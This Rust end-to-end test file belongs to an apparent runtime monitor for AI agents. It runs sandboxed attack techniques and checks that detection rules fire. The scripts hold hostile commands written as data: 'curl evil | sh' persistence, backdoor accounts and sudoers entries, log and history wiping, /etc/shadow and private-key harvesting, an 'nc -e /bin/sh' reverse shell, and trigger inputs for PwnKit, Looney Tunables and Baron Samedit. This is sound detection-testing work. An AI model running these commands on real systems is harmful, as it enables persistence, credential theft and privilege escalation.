//! The technique rules on the real kernel: each test performs techniques of Falco's rules,
//! falcosecurity/event-generator's actions and MITRE ATT&CK inside a watched cgroup
//! (`agentmon exec --rules rules/`) and asserts the alert of each by rule name. Tools absent here
//! are stand-ins copied from `/bin/true` (or from python3/bash where the stand-in must act),
//! named like the tool, in a temp dir made by the test outside the agent's cgroup. System files
//! that must not be written are replaced by temp files the rules also cover (any home's
//! `.bashrc`), by new uniquely named files in the real directory that are removed at once
//! (`/var/log/agentmon-e2e-*`), or by a tmpfs mounted over the directory in a private mount
//! namespace (`/etc/sudoers.d`, `/etc`). Network traffic goes only to loopback or to addresses the
//! test assigns to `lo` inside a network namespace it created (`unshare -n`).
//! The table mapping techniques to these tests is docs/COVERAGE.md § Techniques.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code outside #[test] fns: a failed step fails the test"
)]
use std::{
    os::unix::fs::PermissionsExt,
    path::{Path, PathBuf},
};

use agentmon_e2e::{ExecRun, exec_rules, shipped_rules};

const PYTHON: &str = "/usr/bin/python3";

/// Runs `script` with bash as the watched agent; its stdout goes to /dev/null (agentmon's JSON is
/// on the same stdout).
fn run(script: &str) -> ExecRun {
    let script = format!("exec >/dev/null\n{script}");
    exec_rules(&shipped_rules(), SANDBOX, &["/bin/bash", "-c", &script])
}

/// Every rule on, whatever its maturity (the techniques include incubating and sandbox rules).
const SANDBOX: &[&str] = &["--rules-maturity", "sandbox"];

/// Every rule in `rules` fired at least once (all missing ones are reported together).
fn assert_fired(r: &ExecRun, rules: &[&str]) {
    let missing: Vec<&&str> = rules.iter().filter(|n| r.alerts_of(n).is_empty()).collect();
    assert!(
        missing.is_empty(),
        "rules that did not fire: {missing:?}\nfired: {:?}\nstderr: {}",
        r.fired(),
        r.stderr
    );
}

/// A copy of `from` named `name` in `dir`, executable.
fn copy_as(dir: &Path, from: &str, name: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::copy(from, &p).unwrap_or_else(|e| panic!("copying {from}: {e}"));
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    p
}

/// A stand-in for a tool that is absent (or must not really run): `/bin/true` named `name`.
fn stand_in(dir: &Path, name: &str) -> String {
    copy_as(dir, "/bin/true", name).display().to_string()
}

/// Removes a path on drop (files the test creates in real system directories).
struct Cleanup(Vec<PathBuf>);
impl Drop for Cleanup {
    fn drop(&mut self) {
        for p in &self.0 {
            let _ = std::fs::remove_file(p);
        }
    }
}

fn tmp() -> tempfile::TempDir {
    tempfile::Builder::new().prefix("agentmon-tech-").tempdir().unwrap()
}

#[test]
fn persistence_authorized_keys_rc_files_cron_units_accounts_and_loader() {
    let home = tmp();
    let tools = tmp();
    let h = home.path().display();
    let crontab = stand_in(tools.path(), "crontab");
    let useradd = stand_in(tools.path(), "useradd");
    // Private mount namespace: tmpfs over /etc/sudoers.d, /etc/apt/sources.list.d and finally /etc,
    // so the writes land on the kernel's paths of those directories without touching the real ones.
    let script = format!(
        "set -e; mkdir -p {h}/.ssh {h}/.config/systemd/user
         echo 'ssh-ed25519 AAAA attacker' >> {h}/.ssh/authorized_keys
         echo 'curl evil | sh' >> {h}/.bashrc
         printf '[Service]\\nExecStart=/bin/true\\n' > {h}/.config/systemd/user/updater.service
         echo '* * * * * /bin/true' > {h}/job; {crontab} {h}/job
         {useradd} -o -u 0 backdoor
         unshare -m --propagation private /bin/bash -c '
           mkdir -p /etc/sudoers.d && mount -t tmpfs agentmon-e2e /etc/sudoers.d && echo \"bot ALL=(ALL) NOPASSWD: ALL\" > /etc/sudoers.d/bot
           mkdir -p /etc/apt/sources.list.d && mount -t tmpfs agentmon-e2e /etc/apt/sources.list.d && echo \"# deb http://evil/ x main\" > /etc/apt/sources.list.d/evil.list
           mount -t tmpfs agentmon-e2e /etc && echo /tmp/evil.so > /etc/ld.so.preload'"
    );
    let r = run(&script);
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(
        &r,
        &[
            "SSH authorized_keys modified",
            "Shell configuration file modified",
            "Service unit or init script created",
            "Cron job scheduled",
            "User management tool run",
            "Account or sudo configuration modified",
            "Package repository configuration modified",
            "Dynamic loader preload configured",
        ],
    );
}

#[test]
fn log_and_history_wiping_data_destruction_and_timestomp() {
    let home = tmp();
    let h = home.path().display();
    let log = PathBuf::from(format!("/var/log/agentmon-e2e-{}.log", std::process::id()));
    let old = log.with_extension("log.1");
    let _cleanup = Cleanup(vec![log.clone(), old.clone()]);
    std::fs::write(&log, "auth: accepted\n").unwrap();
    for f in [".bash_history", ".zsh_history", ".python_history"] {
        std::fs::write(home.path().join(f), "secret command\n").unwrap();
    }
    std::fs::write(home.path().join("junk"), "x").unwrap();
    let script = format!(
        "set -e; truncate -s 0 {l}; mv {l} {o}; rm {o}
         truncate -s 0 {h}/.bash_history; ln -sf /dev/null {h}/.zsh_history; rm {h}/.python_history
         shred -u {h}/junk; touch -d 2001-01-01 {h}/.bash_history",
        l = log.display(),
        o = old.display()
    );
    let r = run(&script);
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(
        &r,
        &[
            "Log file cleared or removed",
            "Shell history cleared or removed",
            "Data destruction tool run",
            "Timestamps of a file forged",
        ],
    );
    // truncate, rename away and unlink of the log are each seen.
    let kinds: Vec<String> = r
        .alerts_of("Log file cleared or removed")
        .iter()
        .map(|a| a["event"]["kind"].as_str().unwrap_or_default().to_string())
        .collect();
    for k in ["truncate", "rename", "unlink"] {
        assert!(kinds.iter().any(|x| x == k), "{k} not seen: {kinds:?}");
    }
}

#[test]
fn shadow_read_directly_through_dotdot_and_through_a_symlink() {
    let dir = tmp();
    let d = dir.path().display();
    let script = format!(
        "cat /etc/shadow >/dev/null; cat /etc/../etc/./shadow >/dev/null; cd /usr && cat ../etc/shadow >/dev/null
         ln -s /etc/shadow {d}/notes.txt; cat {d}/notes.txt >/dev/null
         ln /etc/shadow {d}/hard 2>/dev/null; rm -f {d}/hard; true"
    );
    let r = run(&script);
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(
        &r,
        &[
            "Read of shadow or sudo configuration",
            "Directory traversal to a system file",
            "Link to a sensitive file created",
        ],
    );
    let reads = r.alerts_of("Read of shadow or sudo configuration");
    assert!(reads.len() >= 4, "each of the four reads: {reads:#?}");
    let links: Vec<String> = r
        .alerts_of("Link to a sensitive file created")
        .iter()
        .map(|a| a["event"]["kind"].as_str().unwrap_or_default().to_string())
        .collect();
    assert!(
        links.iter().any(|k| k == "symlink") && links.iter().any(|k| k == "link"),
        "{links:?}"
    );
}

#[test]
fn environ_harvest_key_search_ssh_files_and_memory_reads() {
    let home = tmp();
    let h = home.path().display();
    std::fs::create_dir_all(home.path().join(".ssh")).unwrap();
    std::fs::write(home.path().join(".ssh/known_hosts"), "prod.example ssh-ed25519 AAAA\n").unwrap();
    let script = format!(
        "cat /proc/$$/environ >/dev/null; cat /proc/self/environ >/dev/null
         grep -r 'BEGIN OPENSSH PRIVATE' {h} >/dev/null; find {h} -name id_rsa >/dev/null
         cat {h}/.ssh/known_hosts >/dev/null
         head -c 0 /proc/$$/mem; true"
    );
    let r = run(&script);
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(
        &r,
        &[
            "Process environment read",
            "Search for private keys or cloud credentials",
            "Read of SSH client files by a non-SSH program",
            "Process memory read",
        ],
    );
    // Only the read of another pid's environ, not /proc/self/environ.
    let env = r.alerts_of("Process environment read");
    assert_eq!(env.len(), 1, "{env:#?}");
}

#[test]
fn setuid_bits_refused_setuid_user_namespaces_and_setns() {
    let dir = tmp();
    let d = dir.path().display();
    let py_setuid = "import os\ntry:\n    os.setuid(0)\nexcept PermissionError:\n    pass\n";
    let script = format!(
        "set -e; cp /bin/true {d}/suid; chmod u+s {d}/suid; mkdir {d}/shared; chmod g+s {d}/shared
         setpriv --reuid 65534 --regid 65534 --clear-groups {PYTHON} -S -c '{py_setuid}'
         unshare -U -r true
         unshare -n sleep 30 & holder=$!; sleep 0.3; nsenter -t $holder -n true; kill $holder"
    );
    let r = run(&script);
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(
        &r,
        &[
            "Setuid bit set on a file",
            "Setgid bit set on a file",
            "Setuid to root refused",
            "User namespace created",
            "Namespace entered with setns",
        ],
    );
}

#[test]
fn a_setuid_program_regaining_root_after_dropping_it() {
    // A setuid-root copy of python in a directory only root can list, run as nobody: it drops
    // to euid 65534 and takes euid 0 back from its saved uid (a kernel exploit ends the same way).
    let dir = tmp();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o711)).unwrap();
    let py = copy_as(dir.path(), "/usr/bin/python3.11", "rootkit-helper");
    std::fs::set_permissions(&py, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let script = format!(
        "setpriv --reuid 65534 --regid 65534 --clear-groups {} -S -c 'import os; os.seteuid(65534); os.seteuid(0)'",
        py.display()
    );
    let r = run(&script);
    let _ = std::fs::remove_file(&py);
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(&r, &["Root regained by a non-root process"]);
}

#[test]
fn pwnkit_looney_tunables_baron_samedit_and_sudo_minus_one() {
    let tools = tmp();
    let pkexec = stand_in(tools.path(), "pkexec");
    let su = stand_in(tools.path(), "su");
    let sudoedit = stand_in(tools.path(), "sudoedit");
    let sudo = stand_in(tools.path(), "sudo");
    // PwnKit: execve(pkexec, {NULL}, {"pwnkit", "PATH=GCONV_PATH=.", "CHARSET=PWNKIT"}).
    let pwnkit = format!(
        "import ctypes, os\nlibc = ctypes.CDLL(None)\nargv = (ctypes.c_char_p * 1)(None)\n\
         envp = (ctypes.c_char_p * 4)(b'pwnkit', b'PATH=GCONV_PATH=.', b'CHARSET=PWNKIT', None)\n\
         if os.fork() == 0:\n    libc.execve(b'{pkexec}', argv, envp)\n    os._exit(1)\nos.wait()\n"
    );
    let script = format!(
        "{PYTHON} -S -c \"{pwnkit}\"
         GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A {su} --help
         {sudoedit} -s '\\' AAAAAAAA
         {sudo} -u#-1 /bin/id"
    );
    let r = run(&script);
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(
        &r,
        &[
            "PwnKit exploit attempt",
            "Looney Tunables exploit attempt",
            "Baron Samedit exploit attempt",
            "Sudo run as uid -1",
        ],
    );
}

const PY_PTRACE: &str = "
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid = os.fork()
if pid == 0:
    time.sleep(5)
    os._exit(0)
time.sleep(0.2)
libc.ptrace(16, pid, None, None)
os.waitpid(pid, 0)
libc.ptrace(17, pid, None, None)
os.kill(pid, 9)
os.waitpid(pid, 0)
";

const PY_TRACEME_AND_BPF: &str = "
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.syscall.restype = ctypes.c_long
pid = os.fork()
if pid == 0:
    libc.ptrace(0, 0, None, None)
    os._exit(0)
os.waitpid(pid, 0)
attr = ctypes.create_string_buffer(128)
libc.syscall(321, 5, attr, 128)
libc.prctl(15, b\"kworker/0:2\", 0, 0, 0)
";

#[test]
fn escapes_kernel_code_injection_and_devices() {
    let dir = tmp();
    let d = dir.path().display();
    let insmod = stand_in(dir.path(), "insmod");
    let gdb = copy_as(dir.path(), "/usr/bin/python3.11", "gdb").display().to_string();
    let devfile = PathBuf::from(format!("/dev/agentmon-e2e-{}", std::process::id()));
    let binfile = PathBuf::from(format!("/usr/bin/agentmon-e2e-{}", std::process::id()));
    let _cleanup = Cleanup(vec![devfile.clone(), binfile.clone()]);
    std::fs::create_dir(dir.path().join("cg")).unwrap();
    let script = format!(
        "echo /tmp/x > {d}/release_agent
         /usr/sbin/debugfs -V >/dev/null 2>&1
         unshare -m --propagation private mount -t sysfs agentmon-e2e {d}/cg
         unshare -m nsenter -t {me} -m true
         chroot / /bin/true
         {insmod} {d}/rootkit.ko
         {PYTHON} -S -c '{PY_PTRACE}'
         {gdb} -S -c '{PY_PTRACE}'
         {PYTHON} -S -c '{PY_TRACEME_AND_BPF}'
         exec 3<>/proc/$$/mem; exec 3<&-
         {PYTHON} -S -c \"try:\n    open('/proc/self/exe', 'r+b')\nexcept OSError:\n    pass\"
         head -c 0 /dev/vda 2>/dev/null || head -c 0 /dev/sda 2>/dev/null || head -c 0 /dev/nvme0n1 2>/dev/null
         echo x > {dev}; rm -f {dev}
         mknod {d}/null c 1 3
         echo x > {bin}; rm -f {bin}; true",
        me = std::process::id(),
        dev = devfile.display(),
        bin = binfile.display(),
    );
    let r = run(&script);
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(
        &r,
        &[
            "Cgroup release_agent written",
            "Debugfs run",
            "Sensitive filesystem mounted",
            "Host namespace entered",
            "Root directory changed",
            "Kernel module load",
            "Process injection with ptrace",
            "Debugger attached to a process",
            "Anti-debugging with ptrace",
            "eBPF program loaded",
            "Process masquerading as a system program",
            "Process memory written by another process",
            "Container entrypoint overwritten",
            "Raw disk or kernel memory device opened",
            "File created below /dev",
            "Device node created",
            "Write below a system binary directory",
        ],
    );
    // The python ptrace is injection; the same code in a binary named gdb is a debugger.
    let inj = r.alerts_of("Process injection with ptrace");
    assert!(inj.iter().all(|a| a["event"]["exe"] != gdb.as_str()), "{inj:#?}");
}

#[test]
fn loader_and_interpreter_hooks_proxies_and_backdoored_liblzma() {
    let dir = tmp();
    let d = dir.path().display();
    let curl = stand_in(dir.path(), "curl");
    std::fs::write(dir.path().join("liblzma.so.5.6.1"), "").unwrap();
    let script = format!(
        "LD_PRELOAD=/nonexistent/hook.so /bin/true 2>/dev/null
         BASH_ENV=/dev/null /bin/true
         HTTPS_PROXY=http://127.0.0.1:1 {curl} https://example.invalid/
         cat {d}/liblzma.so.5.6.1"
    );
    let r = run(&script);
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(
        &r,
        &[
            "Loader hijack variable at exec",
            "Interpreter start-up hook variable at exec",
            "HTTP proxy variable set for a downloader",
            "Backdoored liblzma opened",
        ],
    );
}

#[test]
fn reverse_shells_scanners_miners_and_tools() {
    let dir = tmp();
    let t = |n: &str| stand_in(dir.path(), n);
    let (nc, nmap, xmrig, worker, rsync, apt, kubectl) = (
        t("nc"),
        t("nmap"),
        t("xmrig"),
        t("worker"),
        t("rsync"),
        t("apt-get"),
        t("kubectl"),
    );
    let mysqld = copy_as(dir.path(), "/bin/bash", "mysqld").display().to_string();
    let script = format!(
        "{nc} -e /bin/sh 127.0.0.1 4444
         {nmap} -sS 127.0.0.1
         {xmrig} --version; {worker} -o stratum+tcp://pool.example:3333 -u wallet
         {rsync} -a /etc/hostname backup@127.0.0.1:/x
         {apt} install -y netcat
         {kubectl} get secrets
         {mysqld} -c '/bin/true; true'
         bash -i -c true </dev/null 2>/dev/null; true"
    );
    let r = run(&script);
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(
        &r,
        &[
            "Reverse shell",
            "Network scanner or sniffer run",
            "Cryptocurrency miner run",
            "Remote file copy tool run",
            "System package manager run",
            "Kubernetes client tool run",
            "Database server spawned a process",
            "Interactive shell started",
        ],
    );
}

#[test]
fn network_shapes_inside_a_private_network_namespace() {
    // Addresses assigned to lo inside a network namespace this test created: nothing leaves it.
    let dir = tmp();
    let cat = copy_as(dir.path(), "/usr/bin/python3.11", "cat").display().to_string();
    let ncat = copy_as(dir.path(), "/usr/bin/python3.11", "ncat").display().to_string();
    let udp = "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('198.51.100.7', 31337))\n\
               p = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n";
    let listen = "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen(1)\n";
    let connect = |addr: &str, port: u16| {
        format!(
            "import socket\ns = socket.socket()\ns.settimeout(1)\ntry:\n    s.connect(('{addr}', {port}))\nexcept OSError:\n    pass\n"
        )
    };
    let script = format!(
        "set -e; ip link set lo up; ip addr add 198.51.100.7/32 dev lo; ip addr add 10.96.0.1/32 dev lo
         (exec 3<>/dev/tcp/198.51.100.7/4444) 2>/dev/null || true
         {cat} -S -c \"{c1}\"
         {PYTHON} -S -c \"{c2}\"
         {PYTHON} -S -c \"{udp}\"
         {ncat} -S -c \"{listen}\"
         ssh -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=2 -p 2222 198.51.100.7 true 2>/dev/null || true",
        c1 = connect("198.51.100.7", 80),
        c2 = connect("10.96.0.1", 443),
    );
    let script = format!("exec >/dev/null\n{script}");
    let r = exec_rules(
        &shipped_rules(),
        SANDBOX,
        &["unshare", "-n", "/bin/bash", "-c", &script],
    );
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(
        &r,
        &[
            "Shell connected to the network",
            "Connection to a mining pool port",
            "Network connection by a program that never makes one",
            "Connection to the Kubernetes API server",
            "SSH to a non-standard port",
            "UDP traffic to an unexpected port",
            "Packet socket created",
            "Listener opened by a shell or netcat",
        ],
    );
}

/// A credential search by busybox's grep (an Alpine image's `grep` is a link to busybox) is the
/// search it is: the applet counts by the name it runs as.
#[test]
fn a_credential_search_by_busybox_grep_is_seen() {
    let home = tmp();
    let h = home.path().display();
    let r = run(&format!("ln -s /bin/busybox {h}/grep && {h}/grep -rl id_rsa {h}; true"));
    assert_fired(&r, &["Search for private keys or cloud credentials"]);
}
